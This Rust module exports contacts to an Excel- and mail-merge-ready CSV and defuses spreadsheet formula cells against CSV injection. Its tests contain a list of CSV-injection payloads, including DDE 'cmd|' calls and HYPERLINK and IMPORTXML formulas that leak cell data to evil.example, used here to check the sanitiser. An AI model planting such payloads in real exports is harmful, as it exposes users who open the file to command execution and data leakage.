//! Contacts as CSV for Excel and for a Word mail merge (Serienbrief). Excel on German Windows
//! expects semicolons and, to read umlauts right, a UTF-8 byte-order mark.
//!
//! Every cell that Excel or LibreOffice could run as a formula is defused with a leading
//! apostrophe (OWASP "CSV injection"): a list exported here is opened by people who trust it.

use crate::contact::Contact;
use crate::{Error, Result};

/// The columns a mail merge needs, in the order a letter uses them.
const HEADERS: [&str; 12] = [
    "Anrede",
    "Titel",
    "Vorname",
    "Nachname",
    "Funktion",
    "Organisation",
    "Straße",
    "PLZ",
    "Ort",
    "E-Mail",
    "Telefon",
    "Mobil",
];

/// Which columns hold phone numbers: there a value that is wholly a phone number ("+49 711 …")
/// stays as it is, because people dial from the list.
const PHONE_COLUMNS: [usize; 2] = [10, 11];

/// CSV for Excel: UTF-8 with BOM, `;`, CRLF, German headers, one row per contact in the given
/// order. E-mail and Telefon are the preferred address and number (else the first); Mobil the
/// first mobile number unless that is already in Telefon.
pub fn contacts_csv(contacts: &[Contact]) -> Result<Vec<u8>> {
    let mut out = Vec::with_capacity(64 + contacts.len() * 160);
    out.extend_from_slice("\u{feff}".as_bytes());
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    let fail = |e: csv::Error| Error::Database(format!("CSV-Ausgabe fehlgeschlagen: {e}"));
    writer.write_record(HEADERS).map_err(fail)?;
    for c in contacts {
        let email = c
            .emails
            .iter()
            .find(|e| e.preferred)
            .or_else(|| c.emails.first())
            .map(|e| e.address.as_str());
        let phone = c.phones.iter().find(|p| p.preferred).or_else(|| c.phones.first());
        let mobile = c
            .phones
            .iter()
            .find(|p| p.kind == "mobile" && phone.is_none_or(|first| first.number != p.number));
        let cells = [
            c.salutation.as_deref(),
            c.title.as_deref(),
            c.first_name.as_deref(),
            Some(c.last_name.as_str()),
            c.function.as_deref(),
            c.organisation_name.as_deref(),
            c.street.as_deref(),
            c.postal_code.as_deref(),
            c.city.as_deref(),
            email,
            phone.map(|p| p.number.as_str()),
            mobile.map(|p| p.number.as_str()),
        ];
        let record = cells.iter().enumerate().map(|(i, cell)| {
            let value = cell.unwrap_or_default();
            if PHONE_COLUMNS.contains(&i) && is_phone_number(value) {
                value.to_owned()
            } else {
                defuse(value)
            }
        });
        writer.write_record(record).map_err(fail)?;
    }
    writer
        .into_inner()
        .map_err(|e| Error::Database(format!("CSV-Ausgabe fehlgeschlagen: {e}")))
}

/// Excel and LibreOffice treat a cell starting with `=`, `+`, `-` or `@` as a formula (and tab or
/// carriage return can hide such a start); a leading apostrophe makes the cell plain text. Every
/// such cell is defused, whatever follows: `-2+3+cmd|' /C calc'!A0` starts with a digit after
/// the minus, `+(HYPERLINK(…))` with a parenthesis.
fn defuse(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// A value that is nothing but a phone number: digits, spaces and `+ - / ( ) .`, a `+` only at
/// the start, starting with `+`, a digit or `(`. Such a cell cannot call anything, so a phone
/// column keeps "+49 711 123-0" as people typed it.
fn is_phone_number(value: &str) -> bool {
    value.starts_with(|c: char| c == '+' || c == '(' || c.is_ascii_digit())
        && value.chars().filter(char::is_ascii_digit).count() >= 3
        && value.chars().all(|c| c.is_ascii_digit() || " +-/().".contains(c))
        && value.rfind('+').is_none_or(|i| i == 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::contact::{Email, Phone};

    fn contact(last: &str) -> Contact {
        Contact {
            id: 1,
            salutation: Some("Frau".into()),
            title: Some("Dr.".into()),
            first_name: Some("Grüße".into()),
            last_name: last.into(),
            function: Some("Referentin; Integration".into()),
            organisation_id: Some(3),
            organisation_name: Some("Ministerium für Soziales, \"Gesundheit\"".into()),
            street: Some("Else-Josenhans-Straße 6".into()),
            postal_code: Some("70173".into()),
            city: Some("Stuttgart".into()),
            notes: None,
            consent_basis: None,
            consent_date: None,
            consent_source: None,
            consent_note: None,
            created_at: String::new(),
            updated_at: String::new(),
            version: 1,
            anonymised_at: None,
            emails: vec![
                Email {
                    address: "poststelle@sm.example".into(),
                    kind: "work".into(),
                    preferred: false,
                },
                Email {
                    address: "g@sm.example".into(),
                    kind: "work".into(),
                    preferred: true,
                },
            ],
            phones: vec![
                Phone {
                    number: "+49 711 123-0".into(),
                    kind: "work".into(),
                    preferred: true,
                },
                Phone {
                    number: "0171 1234567".into(),
                    kind: "mobile".into(),
                    preferred: false,
                },
            ],
            groups: Vec::new(),
        }
    }

    fn records(bytes: &[u8]) -> (csv::StringRecord, Vec<csv::StringRecord>) {
        let text = std::str::from_utf8(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap()).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.as_bytes());
        let headers = reader.headers().unwrap().clone();
        (headers, reader.records().map(|r| r.unwrap()).collect())
    }

    #[test]
    fn mail_merge_columns_with_bom_semicolons_and_umlauts() {
        let bytes = contacts_csv(&[contact("Weiß-Straßburger")]).unwrap();
        assert!(bytes.starts_with("\u{feff}Anrede;Titel;Vorname;Nachname;Funktion;Organisation;Straße;PLZ;Ort;E-Mail;Telefon;Mobil\r\n".as_bytes()));
        let (_, rows) = records(&bytes);
        let row = &rows[0];
        let expected = [
            "Frau",
            "Dr.",
            "Grüße",
            "Weiß-Straßburger",
            "Referentin; Integration",
            "Ministerium für Soziales, \"Gesundheit\"",
            "Else-Josenhans-Straße 6",
            "70173",
            "Stuttgart",
            "g@sm.example",
            "+49 711 123-0",
            "0171 1234567",
        ];
        assert_eq!(row.iter().collect::<Vec<_>>(), expected);
    }

    #[test]
    fn empty_contact_gives_empty_cells_and_no_mobile_twice() {
        let mut c = contact("Nowak");
        c.salutation = None;
        c.emails.clear();
        c.phones.retain(|p| p.kind == "mobile");
        let (_, rows) = records(&contacts_csv(&[c]).unwrap());
        assert_eq!(&rows[0][0], "");
        assert_eq!(&rows[0][9], "");
        assert_eq!(&rows[0][10], "0171 1234567");
        assert_eq!(&rows[0][11], "");
    }

    /// OWASP's CSV-injection payloads, and the ones the issue found getting through.
    const PAYLOADS: [&str; 14] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+(HYPERLINK(\"http://evil.example\";\"x\"))",
        "+1+1",
        "-1+1",
        "- 1",
        "+ 1",
        "@SUM(1)",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2;\"Fehler: bitte klicken\")",
        "\t=1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"http://evil.example/?\", CONCATENATE(A2:E2)), \"//a\")",
    ];

    #[test]
    fn every_formula_start_is_defused_in_every_column() {
        for payload in PAYLOADS {
            let mut c = contact(payload);
            c.first_name = Some(payload.into());
            c.organisation_name = Some(payload.into());
            c.emails[1].address = payload.into();
            c.phones[0].number = payload.into();
            c.phones[1].number = payload.into();
            let (_, rows) = records(&contacts_csv(&[c]).unwrap());
            let defused = format!("'{payload}");
            for column in [2, 3, 5, 9, 10] {
                assert_eq!(&rows[0][column], defused, "column {column}: {payload:?}");
            }
        }
    }

    #[test]
    fn phone_numbers_in_phone_columns_stay_as_they_are() {
        for number in [
            "+49 711 123-0",
            "+49 (0)711 123-45",
            "(07071) 207-0000",
            "0711/123.45",
            "-1",
        ] {
            let mut c = contact("Öztürk");
            c.phones[0].number = number.into();
            let (_, rows) = records(&contacts_csv(&[c]).unwrap());
            let expected = if number == "-1" {
                "'-1".to_owned()
            } else {
                number.to_owned()
            };
            assert_eq!(&rows[0][10], expected, "{number}");
        }
        // The same value in a non-phone column is defused: only a phone column earns the exception.
        let mut c = contact("+49 711 1");
        c.function = Some("-1".into());
        let (_, rows) = records(&contacts_csv(&[c]).unwrap());
        assert_eq!(&rows[0][3], "'+49 711 1");
        assert_eq!(&rows[0][4], "'-1");
    }

    #[test]
    fn defuse_rules() {
        assert_eq!(defuse("Müller"), "Müller");
        assert_eq!(defuse(" =1"), " =1");
        assert_eq!(defuse("a=1"), "a=1");
        assert_eq!(defuse(""), "");
        assert!(is_phone_number("+1-418-656-9254-102"));
        assert!(!is_phone_number("+1+1"));
        assert!(!is_phone_number("12"));
        assert!(!is_phone_number("+(HYPERLINK(1))"));
        assert!(!is_phone_number("-2+3"));
    }
}
